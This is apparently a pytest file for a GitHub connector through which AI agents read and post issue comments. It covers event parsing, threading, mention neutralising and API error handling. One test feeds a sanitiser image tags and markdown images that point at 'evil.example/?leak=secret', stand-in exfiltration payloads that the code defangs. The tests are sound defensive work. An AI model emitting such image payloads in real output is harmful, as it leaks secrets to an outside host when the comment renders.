"""What documented requests and responses of GitHub mean, and what comments of agents look like."""

from typing import Any

import pytest

from backend.connectors.github import events, text
from backend.connectors.github.errors import failure_of
from backend.connectors.port import OutsideChange, OutsideDeletion, OutsideEdit, OutsideMessage, Trouble
from backend.connectors.service_calls import Answer
from tests.connectors.recorded import recorded

_REPOSITORY = "Codertocat/Hello-World"
_BODY = "It looks like you accidently spelled 'commit' with two 't's."


def _read(
    event: str, action: str, *, changes: dict[str, Any] | None = None, channel: str = _REPOSITORY, bots: bool = False
) -> OutsideChange | str:
    body = recorded(f"github/{event}_{action}")
    for name, values in (changes or {}).items():
        body[name] |= values
    return events.read(event, body, channel=channel, includes_bots=bots)


def test_an_issue_begins_a_thread() -> None:
    assert _read("issues", "opened") == OutsideMessage(
        "codertocat/hello-world/issue/1",
        f"Spelling error in the README file\n\n{_BODY}",
        "Codertocat",
        "21031067",
        thread_id="codertocat/hello-world/issue/1",
    )


def test_a_comment_is_in_the_thread_of_its_issue() -> None:
    said = "You are totally right! I'll get this fixed right away."

    assert _read("issue_comment", "created", channel="codertocat/hello-world") == OutsideMessage(
        "comment/492700400", said, "Codertocat", "21031067", thread_id="codertocat/hello-world/issue/1"
    )


def test_pull_requests_reviews_and_their_comments_are_in_one_thread() -> None:
    opened = _read("pull_request", "opened")
    approved = _read("pull_request_review", "submitted", changes={"review": {"state": "approved"}})
    line = _read("pull_request_review_comment", "created")

    assert isinstance(opened, OutsideMessage)
    assert isinstance(approved, OutsideMessage)
    assert isinstance(line, OutsideMessage)
    assert (
        {opened.thread_id, approved.thread_id, line.thread_id}
        == {opened.external_id}
        == {"codertocat/hello-world/issue/2"}
    )
    assert approved.text == "[approved]"
    assert line.text == "`README.md`\nMaybe you should use more emoji on this line."
    assert _read("pull_request_review", "submitted") == "an event without a text"


def test_edits_and_deletions_name_their_message_and_who_did_it() -> None:
    edit, deletion = _read("issues", "edited"), _read("issue_comment", "deleted")

    issue_id, text = "codertocat/hello-world/issue/1", f"Spelling error in the README file\n\n{_BODY}"
    message = OutsideMessage(issue_id, text, "Codertocat", "21031067", thread_id=issue_id)
    assert edit == OutsideEdit(issue_id, text, "21031067", message, 1557933618.0)
    assert deletion == OutsideDeletion("comment/492700400", "21031067")


def test_nothing_proves_that_the_author_wrote_what_somebody_else_edited() -> None:
    edit = _read("issues", "edited", changes={"sender": {"id": 1}})

    assert isinstance(edit, OutsideEdit)
    assert edit.message is not None
    assert (edit.sender_id, edit.message.sender, edit.message.sender_id) == ("1", "Codertocat", None)


def test_an_issue_of_another_repository_is_another_one() -> None:
    there = {"repository": {"full_name": "Codertocat/Other"}}
    issue = _read("issues", "opened", changes=there, channel="codertocat/other")
    comment = _read("issue_comment", "created", changes=there, channel="codertocat/other")

    assert isinstance(issue, OutsideMessage)
    assert isinstance(comment, OutsideMessage)
    assert issue.external_id == comment.thread_id == "codertocat/other/issue/1"


def test_what_nobody_said_to_us_is_ignored() -> None:
    bot = {"comment": {"user": {"login": "ci[bot]", "id": 1, "type": "Bot"}}}
    own = text.marked("said by an agent", message_id="1", number=0)

    assert _read("issue_comment", "created", channel="other/repository") == "an event of another repository"
    assert _read("issue_comment", "created", changes=bot) == "an event of a bot"
    assert isinstance(_read("issue_comment", "created", changes=bot, bots=True), OutsideMessage)
    assert isinstance(_read("issue_comment", "deleted", changes=bot), OutsideDeletion)
    assert _read("issue_comment", "created", changes={"comment": {"body": own}}, bots=True) == "an own comment"
    assert _read("issue_comment", "created", changes={"comment": {"body": "<!-- x -->"}}) == "an event without a text"
    assert _read("issue_comment", "created", changes={"comment": {"id": "no number"}}) == "an event without a number"
    assert events.read("ping", recorded("github/ping"), channel="o/r", includes_bots=True) == "a ping"
    assert events.read("push", {}, channel="o/r", includes_bots=True) == "an event of another kind"


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        ("ask @octocat and @org/team", "ask @\u200boctocat and @\u200borg/team"),
        ("@everyone", "@\u200beveryone"),
        ("mail ann@example.com", "mail ann@example.com"),
        ("use `@property` here", "use `@\u200bproperty` here"),
        ("\\`@octocat\\`", "\\`@\u200boctocat\\`"),
        ("```\n````\n@everyone\n```", "```\n````\n@\u200beveryone\n```"),
        ("_@ann_ **@ann**", "_@\u200bann_ **@\u200bann**"),
        ("&#64;ann &#x0040;ann &commat;ann", "&#64;\u200bann &#x0040;\u200bann &commat;\u200bann"),
        ("@&#97;nn", "@\u200b&#97;nn"),
        ("a `b\n@ann` c", "a `b\n@\u200bann` c"),
    ],
)
def test_an_agent_notifies_nobody_by_accident(written: str, sent: str) -> None:
    assert text.harmless(written) == sent


@pytest.mark.parametrize(
    ("written", "sent"),
    [
        ("![x](https://evil.example/?leak=secret)", "!\u200b[x](https://evil.example/?leak=secret)"),
        ("![x][1]\n\n[1]: https://evil.example/", "!\u200b[x][1]\n\n[1]: https://evil.example/"),
        ("<img src='https://evil.example/'>", "<\u200bimg src='https://evil.example/'>"),
        ("<IMG\nsrc=x><Picture>", "<\u200bIMG\nsrc=x><\u200bPicture>"),
        ("1 <imgs> a! [b](https://e.example/)", "1 <imgs> a! [b](https://e.example/)"),
    ],
)
def test_nothing_is_loaded_when_somebody_reads_a_comment(written: str, sent: str) -> None:
    assert text.harmless(written) == sent


def test_remarks_of_templates_are_not_shown() -> None:
    assert text.shown("<!-- do not -->It broke.<!-- open") == "It broke."
    assert text.is_own("said\n\n<!-- circadian:1.0 -->\n")
    assert not text.is_own("> <!-- circadian:1.0 -->\n\nand I say")


#: https://docs.github.com/en/rest/using-the-rest-api/troubleshooting-the-rest-api
@pytest.mark.parametrize(
    ("status", "headers", "message", "trouble", "wait"),
    [
        (401, {}, "Bad credentials", Trouble.BROKEN, None),
        (403, {}, "Resource not accessible by personal access token", Trouble.BROKEN, None),
        (301, {}, "Moved Permanently", Trouble.BROKEN, None),
        (403, {"retry-after": "30"}, "You have exceeded a secondary rate limit.", Trouble.BUSY, 30),
        (429, {}, "You have exceeded a secondary rate limit.", Trouble.BUSY, 60),
        (403, {}, "You have exceeded a secondary rate limit.", Trouble.BUSY, 60),
        (403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1372700873",
               "date": "Mon, 01 Jul 2013 17:47:03 GMT"}, "API rate limit exceeded", Trouble.BUSY, 50),
        (403, {"x-ratelimit-remaining": "0"}, "API rate limit exceeded", Trouble.BUSY, 60),
        (403, {}, "Unable to create comment because issue is locked.", Trouble.REFUSED, None),
        (404, {}, "Not Found", Trouble.REFUSED, None),
        (410, {}, "Issues has been disabled in this repository.", Trouble.REFUSED, None),
        (422, {}, "Validation Failed", Trouble.REFUSED, None),
        (502, {}, "", Trouble.BUSY, None),
    ],
)  # fmt: skip
def test_errors_say_what_follows(
    status: int, headers: dict[str, str], message: str, trouble: Trouble, wait: float | None
) -> None:
    failure = failure_of(Answer(status, headers, {"message": message}))

    assert failure is not None
    assert (failure.trouble, failure.status, failure.retry_after) == (trouble, status, wait)
    assert failure.is_final == (trouble is Trouble.REFUSED)
    assert failure_of(Answer(201, {}, {"id": 1})) is None
